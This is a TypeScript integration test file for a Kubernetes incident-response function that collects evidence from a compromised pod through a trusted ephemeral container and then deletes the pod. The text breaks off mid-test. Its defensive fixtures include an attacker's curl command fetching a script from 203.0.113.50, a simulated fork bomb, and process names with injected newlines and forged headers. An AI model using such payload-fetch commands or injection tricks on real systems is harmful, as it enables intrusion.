// "The attacker must not decide whether we contain": the whole function (Functions Framework
// test server, real composition root, real client libraries) in enforce mode against the fake
// API server's process table and ephemeral containers, one scenario per way the target can
// withhold evidence and per way our side can fail. Each asserts on the fake's request log
// (PATCH ephemeralcontainers, EXECs, DELETE and their order) and reports the time from the
// finding's delivery to the DELETE.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test, type TestContext } from 'node:test';
import { configureResponder } from '../../functions/scc-responder/index.js';
import { captureAudit, OPERATION } from '../support/audit-capture.js';
import { freshFinding, postStructured, structuredEvent, type FreshFinding } from '../support/cloudevents.js';
import { startFunctionWorld, type FunctionWorld } from '../support/function-world.js';
import type { FakeContainerSpec, FakeProcess, FakeWrite } from '../support/fake-kube.js';
import { waitUntil, type CallRecord, type Fault } from '../support/faults.js';
import { isUploadNamed, uploadNamed } from '../support/fake-gcs.js';
import { DEPLOY_POD, NODE, NS } from '../support/fake-kube-world.js';
import { BUCKET, FIXTURE_BINARY, type Stack } from '../support/stack.js';

const TIMEOUT_SECONDS = 4;
const POD_PATH = `/api/v1/namespaces/${NS}/pods/${DEPLOY_POD}`;
const CURL = '/usr/bin/curl';
const ARGS = ['/usr/bin/curl', '-s', 'http://203.0.113.50/x.sh', '-o', '/tmp/x'];
const FIXTURE_SHA = createHash('sha256').update(FIXTURE_BINARY).digest('hex');

const POLICY_YAML = `version: 1
snapshot:
  timeoutSeconds: ${TIMEOUT_SECONDS}
enrich:
  callTimeoutSeconds: 5
rules:
  - name: contain
    match:
      categories: ["Execution: Modified Malicious Binary Executed"]
      namespaces: ["${NS}"]
    mode: enforce
    actions:
      - type: labelPod
      - type: deletePod
        gracePeriodSeconds: 0
    maxActionsPerHour: 10000
`;

let stack: Stack;
let world: FunctionWorld;
let url: string;
let dir: string;
const audit = captureAudit();
const timings: string[] = [];

/** The curl process from the finding, with its connection to the payload server. */
function curlProcess(over: Partial<FakeProcess> = {}): FakeProcess {
  return {
    pid: 7, ppid: 1, exe: CURL, exeFile: { content: FIXTURE_BINARY }, cmdline: ARGS, startTime: 5000,
    fds: { 0: '/dev/null', 1: 'pipe:[100]', 3: 'socket:[4711]' },
    maps: [`5583a1e00000-5583a1e21000 r-xp 00000000 08:01 1234 ${CURL}`, '7f3c2a000000-7f3c2a1c0000 r-xp 00000000 08:01 99 /lib/x86_64-linux-gnu/libc.so.6'],
    sockets: [{ proto: 'tcp', local: '10.8.0.12:43122', remote: '203.0.113.50:80', state: 1, inode: 4711 }],
    ...over,
  };
}

const MAIN: FakeProcess = { pid: 1, exe: '/usr/local/bin/checkout', exeFile: { content: Buffer.from('checkout server') }, cmdline: ['/usr/local/bin/checkout', '--port=8080'], sockets: [{ proto: 'tcp6', local: '[::]:8080', remote: '[::]:0', state: 10, inode: 900 }], fds: { 4: 'socket:[900]' } };

/** A fresh compromised pod: the finding's pod, created an hour ago, with this container. */
function freshPod(container: Partial<FakeContainerSpec>): string {
  const uid = `pod-${Math.random().toString(16).slice(2, 10)}`;
  stack.world.kube.addPod({
    namespace: NS, name: DEPLOY_POD, uid, creationTimestamp: new Date(Date.now() - 3_600_000).toISOString(), nodeName: NODE,
    labels: { app: 'checkout', 'pod-template-hash': '7d9f8b6c5d' },
    ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'checkout-7d9f8b6c5d', uid: 'rs-checkout', controller: true }],
    containers: [{ name: 'checkout', image: 'us-docker.pkg.dev/acme-payments-prod/apps/checkout:2.14.1', files: { [CURL]: { content: FIXTURE_BINARY } }, processes: [MAIN, curlProcess()], ...container }],
  });
  return uid;
}


interface Outcome {
  status: number;
  findingName: string;
  findingId: string;
  t0: number;
  writes: FakeWrite[];
  execs: { container: string; argv: string[] }[];
  deleteAt?: number;
  entries: Record<string, unknown>[];
  marks: Record<string, string>;
  object(name: string): Promise<Record<string, unknown> | undefined>;
  text(name: string): Promise<string | undefined>;
  objectTime(name: string): number | undefined;
}

/** Delivers a fresh finding (or `again`, a finding delivered before: a redelivery). */
async function deliver(t: TestContext, label: string, again?: FreshFinding): Promise<Outcome> {
  audit.clear();
  const kube = stack.world.kube;
  const writesBefore = kube.writes.length;
  const callsBefore = kube.faults.calls.length;
  const { notification, findingName, findingId } = again ?? freshFinding('tc');
  const t0 = Date.now();
  stack.known(notification); // SCC holds the finding: the function confirms before acting
  const status = (await postStructured(url, structuredEvent(notification))).status;
  const writes = kube.writes.slice(writesBefore).filter((w) => w.path.startsWith(POD_PATH));
  const execs = kube.faults.calls.slice(callsBefore).filter((c) => c.key.startsWith('EXEC ')).map((c) => ({ container: c.key.split('/').pop() ?? '', argv: (c.detail as { argv: string[] }).argv }));
  const del = writes.find((w) => w.method === 'DELETE');
  const deleteAt = del?.at;
  const line = `${label}: ${deleteAt === undefined ? 'no DELETE' : `finding -> DELETE ${deleteAt - t0} ms`} (status ${status})`;
  timings.push(line);
  t.diagnostic(line);
  const find = (name: string) => stack.gcs.objects(BUCKET).find((o) => o.name.endsWith(`/${findingId}/${name}`));
  return {
    status, findingName, findingId, t0, writes, execs, ...(deleteAt === undefined ? {} : { deleteAt }),
    entries: audit.entries().filter((e) => (e[OPERATION] as { id?: string } | undefined)?.id === findingName),
    marks: stack.scc.marksOf(findingName) ?? {},
    object: async (name) => {
      const o = find(name);
      return o ? (JSON.parse((await stack.gcs.read(BUCKET, o.name)).toString('utf8')) as Record<string, unknown>) : undefined;
    },
    text: async (name) => {
      const o = find(name);
      return o ? (await stack.gcs.read(BUCKET, o.name)).toString('utf8') : undefined;
    },
    objectTime: (name) => {
      const o = find(name);
      return o ? Date.parse(o.timeCreated) : undefined;
    },
  };
}

/** One delivery with `fault` injected into the fake API server, cleared afterwards whatever happens. */
async function deliverWith(t: TestContext, label: string, fault: Fault): Promise<Outcome> {
  stack.world.kube.faults.inject(fault);
  try {
    return await deliver(t, label);
  } finally {
    stack.world.kube.faults.clear();
  }
}

const argvOf = (d: unknown): string[] => (d as { argv?: string[] } | undefined)?.argv ?? [];
/** The execs into the collector since call `from` (FaultPlan.calls: start and end in order). */
const collectorCalls = (from: number): CallRecord[] => stack.world.kube.faults.calls.slice(from).filter((c) => c.key.includes('/scc-evidence-'));
/** Delivers a finding while the collector's cmdline read hangs; its call and the first cat's. */
async function deliverStallingCmdlines(t: TestContext, label: string): Promise<{ o: Outcome; cmdlines: CallRecord | undefined; guess: CallRecord | undefined; cat: CallRecord | undefined }> {
  const kube = stack.world.kube;
  const from = kube.faults.calls.length;
  const o = await deliverWith(t, label, { match: `EXEC ${NS}/${DEPLOY_POD}/scc-evidence-`, where: (d) => argvOf(d)[0] === 'find' && argvOf(d)[7] === 'cmdline', hang: true });
  const calls = collectorCalls(from);
  const { guess, cats } = splitCats(calls);
  return { o, cmdlines: calls.find((c) => argvOf(c.detail)[0] === 'find' && argvOf(c.detail)[7] === 'cmdline'), guess, cat: cats[0] };
}

/**
 * The collector's copies: the hash-proven guess (`cat -- /proc/1/root<path>`, sent with the first
 * round because the finding carries the binary's SHA-256: hash-proven-copy.ts) comes first, and
 * any copy of the search's only starts once the guess is known not to be kept.
 */
function splitCats(calls: CallRecord[]): { guess: CallRecord | undefined; cats: CallRecord[] } {
  const all = calls.filter((c) => argvOf(c.detail)[0] === 'cat');
  const first = all[0];
  assert.deepEqual(argvOf(first?.detail), ['cat', '--', `/proc/1/root${CURL}`], 'the guess is the first copy');
  return { guess: first, cats: all.slice(1) };
}
/** An exec that reads a file of one pid (its command needed a pid first); /proc/1/net/* is fixed. */
const namesPid = (argv: string[]): boolean => argv.some((a) => /^\/proc\/\d+\//.test(a) && !a.startsWith('/proc/1/net/'));

const ephemeralPatches = (o: Outcome): FakeWrite[] => o.writes.filter((w) => w.method === 'PATCH' && w.path.endsWith('/ephemeralcontainers'));
const containerExecs = (o: Outcome): { container: string; argv: string[] }[] => o.execs.filter((e) => e.container === 'checkout');
const warnings = (o: Outcome): string[] => o.entries.filter((e) => e['severity'] === 'WARNING').map((e) => String(e['message']));
/** The snapshot's attempts as report.json records them. */
const attemptsOf = async (o: Outcome): Promise<{ source?: string; outcome: string; reason?: string }[]> =>
  ((await o.object('report.json'))?.['evidence'] as { attempts: { source?: string; outcome: string; reason?: string }[] }).attempts;

function assertDeletedAfter(o: Outcome, ...artefacts: string[]): void {
  assert.ok(o.deleteAt !== undefined, 'the pod was deleted');
  for (const a of artefacts) {
    const at = o.objectTime(a);
    assert.ok(at !== undefined && at <= o.deleteAt, `${a} was stored before the DELETE`);
  }
  const del = o.writes.find((w) => w.method === 'DELETE');
  assert.deepEqual((del?.body as { preconditions?: unknown } | undefined)?.preconditions !== undefined, true, 'DELETE carries preconditions');
}

before(async () => {
  world = await startFunctionWorld('trusted-collector-', { policyYaml: POLICY_YAML, audit });
  ({ stack, url, dir } = world);
});

after(async () => {
  await world.close();
  process.stdout.write(`# trusted-collector timings (finding -> DELETE):\n${timings.map((l) => `#   ${l}`).join('\n')}\n`);
});

describe('trusted collector in enforce mode (requireEvidence: attempted, the default)', () => {
  test('binary deleted after execution, process still running: copied from /proc/<pid>/exe, hash matches, deleted after the copy', async (t) => {
    freshPod({ files: {} }); // the attacker rm'd it; pid 7 still runs it
    const o = await deliver(t, 'deleted, process running');
    assert.equal(o.status, 204);
    const patch = ephemeralPatches(o);
    assert.equal(patch.length, 1, 'one collector added');
    const spec = (patch[0]?.body as { spec: { ephemeralContainers: Record<string, unknown>[] } }).spec.ephemeralContainers[0];
    assert.equal(spec?.['targetContainerName'], 'checkout');
    assert.match(String(spec?.['image']), /@sha256:[0-9a-f]{64}$/);
    assert.deepEqual((spec?.['securityContext'] as { capabilities?: unknown }).capabilities, { drop: ['ALL'] });
    assert.deepEqual(containerExecs(o), [], "the container's own tools were never run");
    const manifest = await o.object('manifest.json');
    assert.equal(manifest?.['source'], '/proc/7/exe');
    assert.equal(manifest?.['verdict'], 'matches');
    assert.equal(manifest?.['trust'], 'pinned-debug-image');
    assert.equal(manifest?.['counts'], true);
    assert.deepEqual((manifest?.['process'] as { pid: number }).pid, 7);
    const volatile = await o.object('volatile.json');
    assert.deepEqual(volatile?.['suspects'], [7]);
    const sockets = volatile?.['sockets'] as { remote: string; pids: number[] }[];
    assert.ok(sockets.some((s) => s.remote === '203.0.113.50:80' && s.pids.includes(7)), JSON.stringify(sockets));
    const procs = volatile?.['processes'] as { pid: number; exe?: string }[];
    assert.equal(procs.find((p) => p.pid === 7)?.exe, `${CURL} (deleted)`);
    assert.equal((manifest?.['volatile'] as { sha256: string }).sha256, createHash('sha256').update(await stack.gcs.read(BUCKET, stack.gcs.objects(BUCKET).find((x) => x.name.endsWith(`/${o.findingId}/volatile.json`))?.name ?? '')).digest('hex'));
    assertDeletedAfter(o, 'binary', 'volatile.json');
    assert.equal(o.marks['scc_responder_hash'], 'matches');
    assert.equal(o.marks['scc_responder_state'], 'contained');
    assert.ok(warnings(o).some((w) => /deleted \/usr\/bin\/curl after running it/.test(w)), 'the deletion is recorded as significant');
    // The markdown report: where it talked to, first among the volatile lines.
    const md = (await o.text('report.md')) ?? '';
    const remote = md.indexOf('| Remote endpoint | 203.0.113.50:80 tcp ESTABLISHED from 10.8.0.12:43122 pid 7 |');
    assert.ok(remote > 0, md);
    assert.ok(remote < md.indexOf('| Volatile state |') && md.indexOf('| Volatile state |') < md.indexOf('| Listening |'), 'remote endpoints first');
    assert.match(md, /\| Copied with \| debug-container \(pinned-debug-image\) from \/proc\/7\/exe/);
  });

  test('binary deleted and the process exited: no copy, volatile state stored, pod deleted, report and marks say the target destroyed it', async (t) => {
    freshPod({ files: {}, processes: [MAIN] });
    const o = await deliver(t, 'deleted, process exited');
    assert.equal(o.status, 204);
    assert.equal(ephemeralPatches(o).length, 1);
    assert.equal(o.objectTime('binary'), undefined, 'no copy');
    const volatile = await o.object('volatile.json');
    assert.deepEqual(volatile?.['suspects'], []);
    assertDeletedAfter(o, 'volatile.json');
    assert.equal(o.marks['scc_responder_hash'], 'withheld-by-target');
    assert.equal(o.marks['scc_responder_state'], 'contained');
    assert.ok(warnings(o).some((w) => /evidence destroyed or withheld by the target/.test(w)), warnings(o).join('\n'));
    const report = await o.object('report.json');
    assert.match(JSON.stringify(report ?? {}), /evidence destroyed or withheld by the target/);
  });

  test('the image has no cat and no tar: the trusted path works without them', async (t) => {
    freshPod({ tools: [] });
    const o = await deliver(t, 'no cat, no tar');
    assert.equal(o.status, 204);
    assert.deepEqual(containerExecs(o), []);
    const manifest = await o.object('manifest.json');
    assert.equal(manifest?.['verdict'], 'matches');
    assert.equal(manifest?.['source'], `/proc/1/root${CURL}`, 'the hash-proven guess');
    assertDeletedAfter(o, 'binary');
  });

  test("the container's cat returns other bytes: the copy is kept, marked differs, not the evidence, the pod is deleted", async (t) => {
    // The collector cannot read the processes (not dumpable, as after a setuid exec; no CAP_SYS_PTRACE): the container's lying cat is all that is left.
    freshPod({ processes: [{ ...MAIN, dumpable: false }, curlProcess({ dumpable: false })], lyingCat: Buffer.from('totally innocent\n') });
    const o = await deliver(t, 'lying cat');
    assert.equal(o.status, 204);
    assert.deepEqual(containerExecs(o).map((e) => e.argv), [['cat', '--', CURL]]);
    const manifest = await o.object('manifest.json');
    assert.equal(manifest?.['verdict'], 'differs');
    assert.equal(manifest?.['trust'], 'container-tool');
    assert.equal(manifest?.['counts'], false);
    assert.match(String(manifest?.['doesNotCountBecause']), /may have lied/);
    assertDeletedAfter(o, 'binary');
    assert.equal(o.marks['scc_responder_hash'], 'differs');
  });

  test("the container's cat never ends: the deadline passes and the pod is deleted within deadline + 1 s", async (t) => {
    freshPod({ processes: [{ ...MAIN, dumpable: false }, curlProcess({ dumpable: false })] });
    const o = await deliverWith(t, 'cat hangs', { match: `EXEC ${NS}/${DEPLOY_POD}/checkout`, hang: true, times: Number.POSITIVE_INFINITY });
    assert.equal(o.status, 204);
    const started = ephemeralPatches(o)[0]?.at;
    assert.ok(started !== undefined && o.deleteAt !== undefined, 'collector started, pod deleted');
    // The hang never ends on its own: a DELETE at all proves the deadline released the gate.
    // The bound leaves room for a busy machine (the time itself is reported by the scenario
    // run in the issue note, not asserted: no wall-clock assertion holds under load).
    assert.ok(o.deleteAt - started <= TIMEOUT_SECONDS * 1000 + 30_000, `DELETE ${o.deleteAt - started} ms after the snapshot began`);
    assert.equal(o.marks['scc_responder_hash'], 'withheld-by-target');
    // Either limit may fire first on a loaded machine: the copy's deadline or the exec's own.
    assert.ok(warnings(o).some((w) => /did not finish within|timed out after/.test(w)), warnings(o).join('\n'));
  });

  test("a /proc read of the process stalls (its maps, as while it holds its mmap lock): the copy does not wait for it, volatile.json says what was not read, the pod is deleted", async (t) => {
    freshPod({ files: {} });
    const kube = stack.world.kube;
    const from = kube.faults.calls.length;
    const o = await deliverWith(t, 'maps read stalls', { match: `EXEC ${NS}/${DEPLOY_POD}/scc-evidence-`, where: (d) => argvOf(d).some((a) => a.endsWith('/maps')), hang: true, times: Number.POSITIVE_INFINITY });
    assert.equal(o.status, 204);
    const manifest = await o.object('manifest.json');
    assert.equal(manifest?.['verdict'], 'matches');
    assert.equal(manifest?.['source'], '/proc/7/exe');
    assertDeletedAfter(o, 'binary', 'volatile.json');
    const volatile = await o.object('volatile.json');
    assert.deepEqual(volatile?.['suspects'], [7]);
    assert.ok((volatile?.['problems'] as string[]).some((p) => /\/proc\/7\/maps.*timed out/.test(p)), JSON.stringify(volatile?.['problems']));
    assert.ok((volatile?.['sockets'] as { remote: string }[]).some((x) => x.remote === '203.0.113.50:80'), 'the other reads were not held up');
    // Order, not time: the binary was read while the stalled read was still open.
    const calls = kube.faults.calls.slice(from).filter((c) => c.key.includes('/scc-evidence-'));
    const maps = calls.find((c) => argvOf(c.detail).some((a) => a.endsWith('/maps')));
    const cat = calls.find((c) => argvOf(c.detail)[0] === 'cat');
    assert.ok(maps?.fault?.hang === true && cat !== undefined, 'the maps read stalled and the binary was read');
    assert.ok(cat.start < (maps.end ?? Number.POSITIVE_INFINITY), 'the copy started before the stalled read ended');
    assert.ok(cat.end !== undefined && cat.end < (maps.end ?? Number.POSITIVE_INFINITY), 'and finished while it was still open');
  });

  test('one exec round before the copy: every exec in front of `cat /proc/7/exe` names no pid (find names the files itself)', async (t) => {
    freshPod({ files: {} });
    const from = stack.world.kube.faults.calls.length;
    const o = await deliver(t, 'one round before the copy');
    assert.equal(o.status, 204);
    const calls = collectorCalls(from);
    const { guess, cats } = splitCats(calls); // no file at the path: the guess finds nothing
    const cat = cats[0];
    assert.deepEqual(argvOf(cat?.detail), ['cat', '--', '/proc/7/exe']);
    const before = calls.filter((c) => c !== guess && c.start < (cat?.start ?? 0)).map((c) => argvOf(c.detail));
    assert.deepEqual(before.filter(namesPid), [], 'nothing read by pid before the copy');
    assert.deepEqual(before.filter((a) => a[0] === 'find').map((a) => a[7]).sort(), ['cmdline', 'exe', 'fd', 'stat', 'status']);
    assert.ok(before.some((a) => a.join(' ') === 'ls /proc'), 'ls /proc still runs (the flood guard), beside the finds');
    assert.equal((await o.object('manifest.json'))?.['verdict'], 'matches');
    assert.deepEqual((await o.object('volatile.json'))?.['suspects'], [7]);
    assertDeletedAfter(o, 'binary', 'volatile.json');
  });

  test('negative control: a namespace with more than 256 processes (a fork bomb) is read by pid for the first 256, one round more, and the copy still comes from the suspect', async (t) => {
    const bomb: FakeProcess[] = Array.from({ length: 300 }, (_, i) => ({ pid: 100 + i, ppid: 1, exe: '/bin/sh', cmdline: ['sh', '-c', ':'], exeFile: { content: Buffer.from('sh') } }));
    freshPod({ files: {}, processes: [MAIN, curlProcess(), ...bomb] });
    const from = stack.world.kube.faults.calls.length;
    const o = await deliver(t, 'fork bomb');
    assert.equal(o.status, 204);
    const calls = collectorCalls(from);
    const { guess, cats } = splitCats(calls); // no file at the path: the guess finds nothing
    const cat = cats[0];
    const before = calls.filter((c) => c !== guess && c.start < (cat?.start ?? 0)).map((c) => argvOf(c.detail));
    const byPid = before.filter(namesPid);
    assert.ok(byPid.some((a) => a[0] === 'ls' && a.includes('/proc/7/exe')), 'the exe links were read by pid: the check above fails here');
    const listed = byPid.find((a) => a[0] === 'ls' && a.includes('/proc/7/exe')) ?? [];
    assert.equal(listed.filter((a) => a.endsWith('/exe')).length, 256, 'the first 256 pids');
    const volatile = await o.object('volatile.json');
    assert.ok((volatile?.['problems'] as string[]).some((p) => /^30\d processes: only the first 256 were read$/.test(p)), JSON.stringify(volatile?.['problems']));
    assert.deepEqual(volatile?.['suspects'], [7]);
    assert.equal((await o.object('manifest.json'))?.['source'], '/proc/7/exe');
    assertDeletedAfter(o, 'binary', 'volatile.json');
  });

  test('the exe links alone name the process: its copy starts while the cmdlines are still being read (a stalled cmdline read does not hold it)', async (t) => {
    freshPod({ files: {} });
    const { o, cmdlines, cat } = await deliverStallingCmdlines(t, 'cmdline read stalls');
    assert.equal(o.status, 204);
    assert.ok(cmdlines?.fault?.hang === true && cat !== undefined, 'the cmdline read stalled and the binary was read');
    assert.ok(cat.start < (cmdlines.end ?? Number.POSITIVE_INFINITY), 'the copy started before the cmdline read ended');
    const manifest = await o.object('manifest.json');
    assert.equal(manifest?.['source'], '/proc/7/exe');
    assert.equal(manifest?.['verdict'], 'matches');
    assertDeletedAfter(o, 'binary', 'volatile.json');
  });

  test("no process runs the file (it exited): the file under the first process's root, read with the first round, is the copy (its hash is the finding's)", async (t) => {
    freshPod({ processes: [MAIN] }); // curl ran and exited; the file is still in the container
    const { o, cmdlines, guess, cat } = await deliverStallingCmdlines(t, 'process exited, cmdline read stalls');
    assert.equal(o.status, 204);
    assert.ok(cmdlines?.fault?.hang === true && guess !== undefined, 'the cmdline read stalled and the binary was read');
    assert.equal(cat, undefined, 'kept: no other copy was started');
    // Judged against the stall (the client gives it up at its timeout, then the server notices
    // the close): a copy that waited for the cmdlines would start near the stall's end.
    assert.ok(cmdlines.end !== undefined && guess.start - cmdlines.start < (cmdlines.end - cmdlines.start) / 2, `the copy started early in the stalled cmdline read (stall ${cmdlines.start}-${String(cmdlines.end)}, cat ${guess.start})`);
    const manifest = await o.object('manifest.json');
    assert.equal(manifest?.['source'], `/proc/1/root${CURL}`);
    assert.equal(manifest?.['verdict'], 'matches');
    assertDeletedAfter(o, 'binary', 'volatile.json');
  });

  test('the suspect is not dumpable, the file under the first process\'s root is: read with the first round and kept, as its SHA-256 is the finding\'s', async (t) => {
    freshPod({ processes: [MAIN, curlProcess({ dumpable: false })] });
    const from = stack.world.kube.faults.calls.length;
    const o = await deliver(t, 'guess kept');
    assert.equal(o.status, 204);
    const { guess, cats } = splitCats(collectorCalls(from));
    assert.ok(guess !== undefined);
    assert.deepEqual(cats, [], 'no other copy');
    assert.deepEqual(containerExecs(o), [], 'the container\'s own tools are not needed');
    const manifest = await o.object('manifest.json');
    assert.equal(manifest?.['source'], `/proc/1/root${CURL}`);
    assert.equal(manifest?.['verdict'], 'matches');
    assert.equal(manifest?.['counts'], true);
    assertDeletedAfter(o, 'binary', 'volatile.json');
  });

  test('the file at the path was replaced after it ran: the guess has other bytes and is dropped unstored, the copy comes from /proc/7/exe', async (t) => {
    freshPod({ processes: [MAIN, curlProcess()], files: { [CURL]: { content: Buffer.from('a decoy put where the binary was') } } });
    const from = stack.world.kube.faults.calls.length;
    const o = await deliver(t, 'guess dropped');
    assert.equal(o.status, 204);
    const { cats } = splitCats(collectorCalls(from));
    assert.deepEqual(argvOf(cats[0]?.detail), ['cat', '--', '/proc/7/exe']);
    const manifest = await o.object('manifest.json');
    assert.equal(manifest?.['source'], '/proc/7/exe');
    assert.equal(manifest?.['verdict'], 'matches');
    const attempts = await attemptsOf(o);
    const dropped = attempts.find((a) => a.source === `/proc/1/root${CURL}`);
    assert.equal(dropped?.outcome, 'aborted', JSON.stringify(attempts));
    assert.match(dropped?.reason ?? '', /not kept, its bytes are not the finding's binary/);
    // Negative control for "unstored": the decoy's bytes are in no object of the bucket.
    const decoy = Buffer.from('a decoy put where the binary was');
    for (const { name } of stack.gcs.objects(BUCKET)) assert.ok(!(await stack.gcs.read(BUCKET, name)).equals(decoy), `${name} holds the decoy`);
    assertDeletedAfter(o, 'binary', 'volatile.json');
  });

  test('the guess is sent with the first round: it is read while the exe links are still being found', async (t) => {
    freshPod({ processes: [MAIN, curlProcess()] });
    const kube = stack.world.kube;
    const from = kube.faults.calls.length;
    const o = await deliverWith(t, 'exe find stalls', { match: `EXEC ${NS}/${DEPLOY_POD}/scc-evidence-`, where: (d) => argvOf(d)[0] === 'find' && argvOf(d)[7] === 'exe', hang: true });
    assert.equal(o.status, 204);
    const calls = collectorCalls(from);
    const exe = calls.find((c) => argvOf(c.detail)[0] === 'find' && argvOf(c.detail)[7] === 'exe');
    const { guess } = splitCats(calls);
    assert.ok(exe?.fault?.hang === true && exe.end !== undefined && guess?.end !== undefined);
    assert.ok(guess.end < exe.end, `the guess was read while the exe find stalled (find ${exe.start}-${exe.end}, cat ${guess.start}-${guess.end})`);
    assert.equal((await o.object('manifest.json'))?.['source'], `/proc/1/root${CURL}`);
  });

  test("negative control: a cmdline names the process (argv[0] is the path, its exe link is not): the early copy under the root is dropped unstored, the search's /proc/<pid>/exe is kept", async (t) => {
    const viaLink = curlProcess({ pid: 9, exe: '/opt/curl/bin/curl', exeFile: { content: FIXTURE_BINARY }, fds: {}, sockets: [] });
    // The file at the path is not the finding's binary, so the hash-proven guess is not kept either.
    freshPod({ processes: [MAIN, viaLink], files: { [CURL]: { content: Buffer.from('another curl') } } });
    const o = await deliver(t, 'early root copy superseded');
    assert.equal(o.status, 204);
    const manifest = await o.object('manifest.json');
    assert.equal(manifest?.['source'], '/proc/9/exe');
    assert.equal(manifest?.['verdict'], 'matches');
    const attempts = await attemptsOf(o);
    assert.ok(attempts.some((a) => a.source === `/proc/1/root${CURL}` && a.outcome === 'aborted' && /no exe link named .*not kept: the search reads \/proc\/9\/exe first/.test(a.reason ?? '')), JSON.stringify(attempts));
    assertDeletedAfter(o, 'binary', 'volatile.json');
  });

  test('negative control: two processes run the path, so the exe links do not settle it: the copy waits for the cmdlines', async (t) => {
    freshPod({ files: {}, processes: [MAIN, curlProcess(), curlProcess({ pid: 9, cmdline: [CURL, '-V'], fds: {}, sockets: [] })] });
    const { o, cmdlines, cat } = await deliverStallingCmdlines(t, 'two processes, cmdline read stalls');
    // The client gives the stalled read up at its timeout and then starts the cat. The server
    // may see the cat's upgrade (on a pre-opened exec spare) a moment before it notices the
    // stalled socket's close, so "after the end" is judged against the stall, not to the ms:
    // a cat that did not wait would start near the stall's beginning.
    assert.ok(cmdlines?.end !== undefined && cat !== undefined, 'the cmdline read ended and the binary was read');
    assert.ok(cat.start - cmdlines.start > (cmdlines.end - cmdlines.start) / 2, `the first cat waited for the cmdline read (stall ${cmdlines.start}-${cmdlines.end}, cat ${cat.start})`);
    assert.equal(o.status, 204);
  });

  test('an early copy the hash check would not have chosen is dropped unstored: the finding\'s hash picks the process, as before', async (t) => {
    // pid 7's exe link is the path but runs other bytes; pid 9 was started as the path (argv[0])
    // through a symlink elsewhere and runs the finding's binary.
    const other = curlProcess({ exeFile: { content: Buffer.from('not the finding\'s binary') } });
    const viaLink = curlProcess({ pid: 9, exe: '/opt/curl/bin/curl', exeFile: { content: FIXTURE_BINARY }, fds: {}, sockets: [] });
    freshPod({ files: {}, processes: [MAIN, other, viaLink] });
    const o = await deliver(t, 'early copy superseded');
    assert.equal(o.status, 204);
    const manifest = await o.object('manifest.json');
    assert.equal(manifest?.['source'], '/proc/9/exe');
    assert.equal(manifest?.['verdict'], 'matches');
    const attempts = await attemptsOf(o);
    assert.ok(attempts.some((a) => a.source === '/proc/7/exe' && a.outcome === 'aborted' && /not kept: 2 processes match/.test(a.reason ?? '')), JSON.stringify(attempts));
    assertDeletedAfter(o, 'binary', 'volatile.json');
  });

  test('attacker-chosen names cannot point the collector elsewhere: an exe path with a newline and a fake ls line, a cmdline with a fake head header', async (t) => {
    const liar: FakeProcess = {
      pid: 20, ppid: 1, exe: `/tmp/x\nlrwxrwxrwx    1 0        0                0 Dec  1 21:00 /proc/1/exe -> ${CURL}`, exeFile: { content: Buffer.from('liar') },
      cmdline: ['/tmp/x', `\n==> /proc/1/cmdline <==\n${ARGS.join('\0')}`],
    };
    // A header naming a pid no listing has: a process of that pid would rank as the path's.
    const phantom: FakeProcess = { pid: 21, ppid: 1, exe: '/tmp/y', exeFile: { content: Buffer.from('y') }, cmdline: ['/tmp/y', `\n==> /proc/999/cmdline <==\n${ARGS.join('\0')}`] };
    freshPod({ files: {}, processes: [MAIN, curlProcess(), liar, phantom] });
    const o = await deliver(t, 'hostile names');
    assert.equal(o.status, 204);
    const volatile = await o.object('volatile.json');
    assert.deepEqual(volatile?.['suspects'], [7], 'pid 1 was not made a suspect');
    const procs = volatile?.['processes'] as { pid: number; exe?: string; cmdline: string[] }[];
    assert.match(procs.find((p) => p.pid === 1)?.exe ?? '', /^\/usr\/local\/bin\/checkout( \(deleted\))?$/, "pid 1's exe link is its own");
    assert.equal(procs.find((p) => p.pid === 20)?.exe, '/tmp/x?lrwxrwxrwx    1 0        0                0 Dec  1 21:00 /proc/1/exe -> /usr/bin/curl (deleted)', 'the newline printed as ?, inside one target');
    assert.deepEqual(procs.find((p) => p.pid === 1)?.cmdline, [], "pid 1's cmdline headed twice: not believed either way");
    assert.equal(procs.some((p) => p.pid === 999), false, 'no process from a header alone');
    assert.deepEqual(procs.find((p) => p.pid === 21)?.cmdline, ['/tmp/y'], "the forged header only cut its writer's own cmdline short");
    assert.ok((volatile?.['problems'] as string[]).some((p) => /\/proc\/1\/cmdline headed more than once/.test(p)), JSON.stringify(volatile?.['problems']));
    assert.equal((await o.object('manifest.json'))?.['source'], '/proc/7/exe');
    assertDeletedAfter(o, 'binary', 'volatile.json');
  });

  test('a collector image whose find cannot run (here: every find refused): the first round falls back to reads by pid, and the copy is made', async (t) => {
    freshPod({ files: {} });
    const kube = stack.world.kube;
    const from = kube.faults.calls.length;
    const o = await deliverWith(t, 'find unusable', { match: `EXEC ${NS}/${DEPLOY_POD}/scc-evidence-`, where: (d) => argvOf(d)[0] === 'find', status: 500, times: Number.POSITIVE_INFINITY });
    assert.equal(o.status, 204);
    const calls = collectorCalls(from);
    const { guess, cats } = splitCats(calls); // no file at the path: the guess finds nothing
    const cat = cats[0];
    const before = calls.filter((c) => c !== guess && c.start < (cat?.start ?? 0)).map((c) => argvOf(c.detail));
    assert.ok(before.some((a) => a[0] === 'ls' && a[1] === '-ln' && a.includes('/proc/7/exe')), 'exe links read by pid');
    assert.ok(before.some((a) => a[0] === 'head' && a.includes('/proc/7/cmdline')), 'cmdlines read by pid');
    const volatile = await o.object('volatile.json');
    assert.ok((volatile?.['problems'] as string[]).some((p) => /^find could not list \/proc\/\*\/exe .*; read by pid instead$/.test(p)), JSON.stringify(volatile?.['problems']));
    assert.ok((volatile?.['processes'] as { pid: number }[]).some((p) => p.pid === 7), 'the process table is complete');
    assert.equal((await o.object('manifest.json'))?.['source'], '/proc/7/exe');
    assertDeletedAfter(o, 'binary', 'volatile.json');
  });

  test("our own first exec into the collector is refused (RBAC lacks pods/exec): ours, no DELETE, the container's tools do not stand in", async (t) => {
    freshPod({});
    const o = await deliverWith(t, 'collector exec refused', { match: `EXEC ${NS}/${DEPLOY_POD}/scc-evidence-`, status: 403, message: 'pods "x" is forbidden: cannot create resource "pods/exec"', times: Number.POSITIVE_INFINITY });
    assert.equal(o.deleteAt, undefined, 'no DELETE');
    assert.deepEqual(containerExecs(o), []);
    const evidence = (await o.object('report.json'))?.['evidence'] as { failure?: string; blame?: string } | undefined;
    assert.equal(evidence?.failure, 'exec-forbidden');
